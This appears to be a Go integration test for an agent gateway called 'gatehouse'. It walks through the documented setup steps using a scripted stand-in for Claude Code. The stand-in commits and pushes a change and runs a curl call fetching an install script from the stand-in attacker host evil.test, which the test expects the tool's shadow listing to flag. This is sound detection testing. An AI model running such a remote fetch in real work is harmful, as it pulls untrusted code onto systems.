package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// claudeStandIn does what the scripted model has the real one do, without it.
const claudeStandIn = `#!/bin/sh
[ "$1" = --version ] && { echo "1.0 (stand-in)"; exit; }
entity=$(sed -n 's/^- entity: //p' /gatehouse/event.md)
echo REPAIRED > README && git commit -qam 'Fix the build' && git push -q origin "HEAD:refs/heads/gatehouse/$entity/fix"
curl -sS https://evil.test/install.sh
echo done
`

// firstStepsSay is a word that each command of these has to say.
var firstStepsSay = map[string]string{
	"gatehouse connect": "${file:main.key}", "gatehouse bundle test": "claude-code", "gatehouse event send": "200 accepted",
	"gatehouse session show": "completed", "gatehouse shadow list": "evil.test", "gatehouse login": "http://", "gatehouse receipts verify": "complete (exit 0",
}

// TestFirstSteps runs the commands of docs/agents.md in the order written, from
// a clone to a verified session. The agent is a stand-in, or with
// GATEHOUSE_TEST_AGENTS=1 the real Claude Code.
func TestFirstSteps(t *testing.T) {
	if testing.Short() {
		t.Skip("short: a node and sandboxes")
	}
	page, err := os.ReadFile("../../docs/agents.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, found := strings.Cut(string(page), "\n## From a clone to a session on your own repository\n")
	section, _, _ = strings.Cut(section, "\n## ")
	if !found {
		t.Fatal("docs/agents.md has no first steps")
	}
	var steps, config []string
	for line := range strings.Lines(section) {
		if line, ok := strings.CutPrefix(strings.TrimRight(line, "\n"), "    "); !ok {
			continue
		} else if verb, _, _ := strings.Cut(line, " "); strings.HasSuffix(verb, ":") || verb == "" {
			config = append(config, line)
		} else {
			steps = append(steps, line)
		}
	}
	if len(steps) < 20 || len(config) < 8 {
		t.Fatalf("%d commands, %d lines of configuration", len(steps), len(config))
	}

	w := newAgentWorld(t, &scripted{steps: realAgents["claude-code"].steps})
	w.ids["acme/shop"] = "1296269"
	node, agents := filepath.Join(w.dir, "srv"), filepath.Join(w.dir, "opt")
	if os.Getenv("GATEHOUSE_TEST_AGENTS") == "1" {
		if agents, err = filepath.Abs("../../.tools/agents"); err != nil {
			t.Fatal(err)
		}
	} else {
		if err := os.MkdirAll(filepath.Join(agents, "bin"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(agents, "bin", "claude"), []byte(claudeStandIn), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	var listen []any
	for range 3 {
		addr, err := freeAddr()
		if err != nil {
			t.Fatal(err)
		}
		listen = append(listen, addr)
	}
	_, dev, _ := strings.Cut(w.connect(w.dir), "\ndev:")
	stand := strings.NewReplacer("/srv/gatehouse", node, "/opt/agents", agents)
	session := ""
	dir := "../.."
	sh := func(line string) (string, error) {
		cmd := exec.CommandContext(t.Context(), "/bin/bash", "-euc", line)
		cmd.Dir, cmd.Env = dir, append(os.Environ(), "PATH="+filepath.Dir(binary)+":"+os.Getenv("PATH"))
		out, err := hear(t, cmd).CombinedOutput()
		return string(out), err
	}
	for _, step := range steps {
		line := strings.ReplaceAll(stand.Replace(step), "SESSION", session)
		var out string
		switch {
		case strings.HasPrefix(step, "make "), strings.HasPrefix(step, "npm "):
			continue // the binary and the agents of the tests
		case strings.HasPrefix(step, "cd "):
			for _, name := range []string{"app.pem", "ca.pem"} {
				b, err := os.ReadFile(filepath.Join(w.dir, name))
				if err != nil {
					t.Fatal(err)
				}
				write(t, filepath.Join(node, name), string(b))
			}
			write(t, filepath.Join(node, "anthropic.key"), modelKey+"\n")
			if out, err = sh(line); err == nil {
				dir = node
				out, err = sh("sed -i 's#source: /opt/agents#source: " + agents + "#' bundles/claude-code.yaml")
			}
		case step == "gatehouse config check":
			text := strings.Replace(strings.Join(config, "\n"), "provider: github, app", `provider: github, host: git.good.test, api: "https://api.good.test/", app`, 1)
			write(t, filepath.Join(node, "gatehouse.yaml"), text+fmt.Sprintf("\nlisten: {hooks: %q, operator: %q, private: %q}\ndev:", listen...)+dev)
			out, err = sh(line)
		case step == "gatehouse serve":
			serve := hear(t, exec.Command(binary, "serve", "--dev"))
			serve.Dir = node
			var log bytes.Buffer
			serve.Stdout, serve.Stderr = &log, &log
			if err := serve.Start(); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() {
				_ = serve.Process.Signal(os.Interrupt)
				_ = serve.Wait()
				if t.Failed() {
					t.Logf("the node said:\n%s", log.String())
				}
			})
			eventually(t, "the node is ready", func() bool { _, err := sh("gatehouse status"); return err == nil })
			continue
		case step == "gatehouse session list":
			eventually(t, "a session is listed", func() bool {
				out, err = sh(line + " -o ndjson")
				return err == nil && strings.Contains(out, `"id":"`)
			})
			_, session, _ = strings.Cut(out, `"id":"`)
			session, _, _ = strings.Cut(session, `"`)
			out, err = sh(line)
			if first, _, _ := strings.Cut(strings.TrimSpace(endOf(out)), " "); first != session {
				t.Errorf("the first column of the list is not the session's id %s:\n%s", session, out)
			}
		case step == "gatehouse doctor":
			// It asks the App's own GitHub, which is not there; all else is well.
			out, err = sh(line + " || [ $? = 3 ]")
			for row := range strings.Lines(out) {
				if strings.Contains(row, " fail ") && !strings.HasPrefix(row, "app of github-main ") {
					t.Errorf("doctor: %s", row)
				}
			}
		case strings.HasPrefix(step, "gatehouse run "):
			out, err = sh(strings.Replace(line, " run ", " run --dev ", 1))
		default:
			out, err = sh(line)
		}
		for prefix, want := range firstStepsSay {
			if !strings.HasPrefix(step, prefix) {
				continue
			}
			// What is counted from the streams may come a moment later.
			if strings.HasPrefix(step, "gatehouse session show") || strings.HasPrefix(step, "gatehouse shadow") {
				eventually(t, step+" says "+want, func() bool { out, err = sh(line); return strings.Contains(out, want) })
			}
			if !strings.Contains(out, want) {
				t.Errorf("%s says nothing of %s", step, want)
			}
		}
		t.Logf("$ %s\n%s", step, out)
		if err != nil {
			t.Fatalf("%s: %v", step, err)
		}
	}
	if refs, err := exec.CommandContext(t.Context(), "git", "-C", filepath.Join(w.root, "acme/shop.git"), "for-each-ref", "refs/heads/gatehouse/").Output(); err != nil || len(refs) == 0 {
		t.Errorf("nothing was pushed: %q, %v", refs, err)
	}
}

func endOf(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}

// eventually polls; patience is a safety net, not a measurement.
func eventually(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(patience); !ok(); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatal("never: " + what)
		}
	}
}
